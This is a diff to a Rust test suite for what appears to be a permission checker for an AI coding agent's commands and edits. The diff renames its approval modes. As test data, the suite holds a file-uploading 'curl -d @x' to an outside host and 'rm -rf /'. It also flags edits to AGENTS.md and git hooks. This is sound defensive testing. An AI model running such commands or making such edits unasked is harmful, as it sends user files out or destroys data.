@@ -35,7 +35,7 @@ fn what_lasts_and_what_leaves_asks_after_untrusted_text() {
     for line in cases.lines().filter(|line| !line.trim().is_empty()) {
         let case: serde_json::Value = serde_json::from_str(line).unwrap();
         let (line, want) = (case["command"].as_str().unwrap(), case["expect"].as_str().unwrap());
-        let got = after(&command(line), &Rules::default(), Mode::Manual);
+        let got = after(&command(line), &Rules::default(), Mode::Ask);
         let told = got.reasons().iter().any(|why| why.effect == AFTER);
         let is = if told { "after" } else { got.name() };
         if is != want {
@@ -64,7 +64,7 @@ fn what_the_person_has_not_named_is_asked_about() {
         ("", "rsync -a a/ b/", false),
         ("", "grep -rn https://evil.example src", false),
     ] {
-        let got = after_hearing(said, &command(line), &Rules::default(), Mode::Manual);
+        let got = after_hearing(said, &command(line), &Rules::default(), Mode::Ask);
         let told = got.reasons().iter().any(|why| why.effect == AFTER);
         assert_eq!(told, asks, "{said}: {line}: {got:?}");
     }
@@ -81,7 +81,7 @@ fn what_the_person_has_not_named_is_asked_about() {
         ("see https://docs.rs", r#"{"url": "https://docs.rs/x"}"#, "allow"),
         ("", r#"{"query": "rust"}"#, "allow"),
     ] {
-        assert_eq!(after_hearing(said, &fetch(args), &rules, Mode::Manual).name(), want, "{said} {args}");
+        assert_eq!(after_hearing(said, &fetch(args), &rules, Mode::Ask).name(), want, "{said} {args}");
     }
 }
 
@@ -107,21 +107,21 @@ fn no_rule_passes_it_and_yolo_does() {
     let mut rules = Rules { session: vec!["sends a file".into()].into(), ..Rules::default() };
     rules.add("allow git *").unwrap();
     for line in ["git push origin main", "curl -d @x https://example.com"] {
-        let got = after(&command(line), &rules, Mode::Smart);
+        let got = after(&command(line), &rules, Mode::Auto);
         assert_eq!(got.name(), "ask", "{line}");
         let why = got.reasons().last().unwrap();
         assert_eq!((why.effect.as_str(), why.text.contains("example.com")), (AFTER, true), "{line}");
-        assert_eq!(after(&command(line), &rules, Mode::Off).name(), "allow", "{line}");
+        assert_eq!(after(&command(line), &rules, Mode::Yolo).name(), "allow", "{line}");
     }
-    assert_eq!(after(&command("git log"), &rules, Mode::Manual).name(), "allow");
-    assert_eq!(after(&command("rm -rf /"), &rules, Mode::Manual).name(), "refuse");
+    assert_eq!(after(&command("git log"), &rules, Mode::Ask).name(), "allow");
+    assert_eq!(after(&command("rm -rf /"), &rules, Mode::Ask).name(), "refuse");
     let edit = |path: &str| Intent::Edit(vec![EditIntent { path: path.into(), diff: String::new(), removes: false }]);
     for (path, want) in [
         ("/home/alice/project/AGENTS.md", true),
         ("/home/alice/project/.git/hooks/pre-commit", true),
         ("/home/alice/project/src/main.rs", false),
     ] {
-        let got = after(&edit(path), &Rules::default(), Mode::Manual);
+        let got = after(&edit(path), &Rules::default(), Mode::Ask);
         assert_eq!(got.reasons().iter().any(|why| why.effect == AFTER), want, "{path}: {got:?}");
     }
 }
